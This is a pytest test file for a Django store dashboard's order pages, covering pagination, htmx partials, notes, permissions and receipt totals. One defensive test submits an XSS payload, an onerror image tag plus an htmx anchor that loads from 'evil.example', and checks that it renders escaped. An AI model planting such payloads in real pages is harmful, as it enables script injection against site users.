"""Orders pages against the sandbox store over real HTTP."""

import re
from decimal import Decimal

import pytest
from django.urls import reverse

from dashboard.models import AuditEntry
from storeapi.roles import Role

from .conftest import HX

pytestmark = pytest.mark.django_db


def list_url(store="acme"):
    return reverse("order_list", kwargs={"store": store})


def detail_url(number, store="acme"):
    return reverse("order_detail", kwargs={"store": store, "number": number})


def numbers_in(html: str) -> list[str]:
    return re.findall(r'data-order-number="(\d+)"', html)


def test_the_list_shows_the_newest_page_with_one_upstream_request(acme, login_as, sandbox):
    client = login_as(acme)
    sandbox.clear_request_log("acme")
    response = client.get(list_url())
    assert response.status_code == 200
    html = response.content.decode()
    assert numbers_in(html) == sandbox.order_numbers("acme")[:50]
    assert "Load more" in html
    assert [r["path"] for r in sandbox.request_log("acme")] == ["/acme/api/admin/orders/"]
    # Money in the order's currency, times in the store's zone.
    assert "$" in html and ("EST" in html or "EDT" in html)


def test_filters_go_to_the_store_and_the_partial_has_only_the_results(acme, login_as, sandbox):
    client = login_as(acme)
    query = {"status": "canceled", "is_test": "false"}
    response = client.get(list_url(), query, HTTP_HX_REQUEST="true", HTTP_HX_TARGET="order-results")
    html = response.content.decode()
    assert "<html" not in html and 'id="order-results"' in html and 'id="order-filters"' not in html
    assert numbers_in(html) == sandbox.order_numbers("acme", **query)[:50]
    assert "HX-Request" in response["Vary"]
    # The same URL without htmx is the whole page, with the filters filled in and shown as chips.
    page = client.get(list_url(), query).content.decode()
    assert "<html" in page and 'id="order-filters"' in page and "Status: Canceled" in page
    assert (
        'value="canceled" checked' in page
        or 'checked value="canceled"' in page
        or re.search(r'<input[^>]*value="canceled"[^>]*checked', page)
    )


def test_load_more_appends_the_next_page(acme, login_as, sandbox):
    client = login_as(acme)
    first = client.get(list_url()).content.decode()
    next_url = re.search(r'hx-get="([^"]*cursor=[^"]*)"', first).group(1).replace("&amp;", "&")
    more = client.get(next_url, **HX).content.decode()
    assert "<table" not in more and "<tr" in more
    assert numbers_in(more) == sandbox.order_numbers("acme")[50:100]


def test_an_invalid_filter_shows_its_error_and_the_rest_applies(acme, login_as, sandbox):
    client = login_as(acme)
    html = client.get(list_url(), {"date_placed_from": "not-a-date", "status": "open"}).content.decode()
    assert "Enter a valid date." in html
    assert numbers_in(html) == sandbox.order_numbers("acme", status="open")[:50]


def test_the_order_page(acme, login_as, sandbox):
    client = login_as(acme)
    number = sandbox.order_numbers("acme")[3]
    response = client.get(detail_url(number))
    html = response.content.decode()
    assert response.status_code == 200 and f"Order #{number}" in html
    assert "Items" in html and "Transactions" in html and "Addresses" in html and "Notes" in html
    assert "?panel=tickets" in html  # tickets load after the page


def test_an_unknown_order_is_404(acme, login_as):
    assert login_as(acme).get(detail_url("99999999")).status_code == 404


def test_a_second_view_of_an_unchanged_order_asks_the_store_nothing(acme, login_as, sandbox):
    client = login_as(acme)
    number = sandbox.order_numbers("acme")[0]
    client.get(detail_url(number))
    sandbox.clear_request_log("acme")
    assert client.get(detail_url(number)).status_code == 200
    assert sandbox.request_log("acme") == []


def test_add_a_note_in_place(acme, login_as, sandbox):
    client = login_as(acme, Role.AGENT)
    number = sandbox.order_numbers("acme")[5]
    response = client.post(
        reverse("order_note_add", kwargs={"store": "acme", "number": number}),
        {"message": "Customer called <b>twice</b>"},
        HTTP_HX_REQUEST="true",
        HTTP_HX_TARGET="order-notes",
    )
    html = response.content.decode()
    assert response.status_code == 200 and "Note added." in html
    assert "Customer called &lt;b&gt;twice&lt;/b&gt;" in html
    entry = AuditEntry.objects.get(action="order.note_added")
    assert (entry.store, entry.operator, entry.object_id) == (acme, client.operator, number)
    # The page shows it too (the write invalidated the cached notes).
    assert "Customer called &lt;b&gt;twice&lt;/b&gt;" in client.get(detail_url(number)).content.decode()


def test_older_notes_load_below_the_newest(acme, login_as, sandbox):
    client = login_as(acme, Role.AGENT)
    number = sandbox.create_orders("acme", count=1)[0]
    for message in ("first note", "second note"):
        client.post(reverse("order_note_add", kwargs={"store": "acme", "number": number}), {"message": message})
    sandbox.set_page_size("acme", 1)
    page = client.get(detail_url(number)).content.decode()
    assert "second note" in page and "first note" not in page and "Older notes" in page
    older = re.search(r'hx-get="([^"]+\?cursor=[^"]+)"', page).group(1).replace("&amp;", "&")
    assert older.startswith(detail_url(number))
    rows = client.get(older, **HX).content.decode()
    assert "first note" in rows and "second note" not in rows and "<section" not in rows


def test_an_empty_note_is_a_field_error_and_nothing_is_sent(acme, login_as, sandbox):
    client = login_as(acme, Role.AGENT)
    number = sandbox.order_numbers("acme")[5]
    sandbox.clear_request_log("acme")
    html = client.post(
        reverse("order_note_add", kwargs={"store": "acme", "number": number}), {"message": "  "}, **HX
    ).content.decode()
    assert "This field is required." in html
    assert not [r for r in sandbox.request_log("acme") if r["method"] == "POST"]
    assert not AuditEntry.objects.exists()


def test_without_javascript_a_note_redirects_back_to_the_order(acme, login_as, sandbox):
    client = login_as(acme, Role.AGENT)
    number = sandbox.order_numbers("acme")[6]
    response = client.post(reverse("order_note_add", kwargs={"store": "acme", "number": number}), {"message": "plain"})
    assert response.status_code == 302 and response["Location"] == detail_url(number)


def test_a_viewer_cannot_add_notes(acme, login_as, sandbox):
    client = login_as(acme, Role.VIEWER)
    number = sandbox.order_numbers("acme")[5]
    assert (
        client.post(reverse("order_note_add", kwargs={"store": "acme", "number": number}), {"message": "x"}).status_code
        == 403
    )
    assert "Add note" not in client.get(detail_url(number)).content.decode()


def test_a_garbage_cursor_is_a_message_not_a_500(acme, login_as):
    response = login_as(acme).get(list_url(), {"cursor": "garbage"})
    assert response.status_code == 200
    assert "data-store-error" in response.content.decode()


def test_store_data_stays_inert_on_the_page(acme, login_as, sandbox):
    """A note (store data) with markup and htmx attributes is shown as text."""
    client = login_as(acme, Role.AGENT)
    number = sandbox.order_numbers("acme")[7]
    evil = '<img src=x onerror=alert(1)><a hx-get="//evil.example" hx-trigger="load">x</a>'
    client.post(reverse("order_note_add", kwargs={"store": "acme", "number": number}), {"message": evil})
    html = client.get(detail_url(number)).content.decode()
    assert "<img src=x" not in html and 'hx-get="//evil' not in html
    assert "&lt;img src=x onerror=alert(1)&gt;&lt;a hx-get=&quot;//evil.example&quot;" in html


# --- the receipt: lines, discounts, shipping, tax and total that add up ---------------------


def receipt_rows(html: str) -> list[tuple[str, Decimal]]:
    """(kind, amount) of each row of the order page's totals, in order."""
    found = re.findall(r'data-receipt-amount="(\w+)" data-amount="([^"]+)"', html)
    return [(kind, Decimal(amount)) for kind, amount in found]


def seeded_orders_to_check(sandbox, store: str) -> dict[str, dict]:
    """A seeded order of the store with a discount, one with taxed shipping and one
    partially refunded (the seed has each in every store). The first two without refunds:
    other tests of the session refund orders of the same sandbox."""
    orders = sandbox.orders(store, detail=True)
    picks = {
        "discount": lambda o: (o["voucher_discounts"] or o["offer_discounts"]) and not o["refunds"],
        "taxed shipping": lambda o: Decimal(o["shipping_tax"]) > 0 and not o["refunds"],
        "partial refund": lambda o: o["payment_status"] == "partially_refunded",
    }
    return {name: next(o for o in orders if pick(o)) for name, pick in picks.items()}


@pytest.mark.parametrize(
    ("store", "inclusive", "symbol"), [("acme", False, "$"), ("bergmann", True, "€"), ("siam", True, "THB")]
)
def test_the_order_page_adds_up_like_a_receipt_with_the_stores_own_figures(
    connect_store, login_as, sandbox, store, inclusive, symbol
):
    client = login_as(connect_store(store))
    for name, order in seeded_orders_to_check(sandbox, store).items():
        html = client.get(detail_url(order["number"], store)).content.decode()
        rows = receipt_rows(html)
        kinds = [kind for kind, _ in rows]
        shown = dict(rows)
        assert "other" not in kinds, (name, rows)  # the store's figures explain the whole total
        total_at = kinds.index("total")
        # What is shown adds up: lines + shipping (+ tax) - discounts = total, the store's.
        assert sum(amount for _, amount in rows[:total_at]) == shown["total"], (name, rows)
        assert shown["total"] == Decimal(order["total_incl_tax"])
        price = "price_incl_tax" if inclusive else "price_excl_tax"
        assert shown["items"] == sum(Decimal(line[price]) * line["quantity"] for line in order["lines"])
        discounts = -sum((amount for kind, amount in rows if kind == "discount"), Decimal(0))
        if inclusive:
            assert shown["shipping"] == Decimal(order["shipping_incl_tax"])
            assert "tax" not in shown and shown["included_tax"] == Decimal(order["total_tax"])
            assert discounts == Decimal(order["total_discount"])
        else:
            assert shown["shipping"] == Decimal(order["shipping_excl_tax"])
            assert shown["tax"] == Decimal(order["total_tax"])
            assert shown["items"] + shown["shipping"] - discounts == Decimal(order["total_excl_tax"])
        if name == "discount":
            assert discounts > 0
        if name == "taxed shipping" and not inclusive:
            assert Decimal(order["shipping_incl_tax"]) > shown["shipping"]  # its tax is in the tax row
        refunded = sum(Decimal(r["total_refund_amount"]) for r in order["refunds"])
        if name == "partial refund":
            assert 0 < refunded < shown["total"]
            assert shown["refunded"] == -refunded and shown["net"] == shown["total"] - refunded
        else:
            assert "refunded" not in shown
        if Decimal(order["total_outstanding"]):
            assert shown["outstanding"] == Decimal(order["total_outstanding"])
        totals = re.search(r"<dl[^>]*data-receipt>.*?</dl>", html, re.S).group(0)
        assert symbol in totals
        # The lines are priced the same way as the receipt.
        assert ("Prices incl. tax" in html) is inclusive


def test_an_order_still_to_be_paid_says_how_much_is_outstanding(acme, login_as, sandbox):
    number = sandbox.create_orders("acme", count=1, payment_status="pending")[0]
    order = sandbox.orders("acme", detail=True, order_number=number)[0]
    rows = dict(receipt_rows(login_as(acme).get(detail_url(number)).content.decode()))
    assert rows["outstanding"] == Decimal(order["total_outstanding"]) == rows["total"]
